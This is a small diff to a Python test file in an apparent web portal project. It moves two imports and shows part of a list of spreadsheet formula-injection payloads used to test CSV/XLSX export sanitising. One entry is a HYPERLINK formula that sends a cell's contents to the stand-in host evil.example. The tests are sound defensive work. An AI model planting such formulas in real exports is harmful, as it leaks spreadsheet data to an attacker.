@@ -14,7 +14,7 @@ from sqlalchemy import select
 
 from portal.core.tabular import csv_bytes, csv_stream, xlsx_bytes
 from portal.models import ImportBatch
-from tests.test_registry_import import HEADER, csv_of, people
+from tests.support.imports import HEADER, csv_of, people
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
@@ -104,7 +104,7 @@ def test_no_other_module_writes_csv_or_xlsx():
 
 
 def test_a_fixed_refused_rows_file_imports_its_cells_as_they_were():
-    from portal.registry.columns import text
+    from portal.registry.imports.columns import text
 
     assert text(" '+6281234567890 ") == "+6281234567890"
     assert text("'-") == "-"
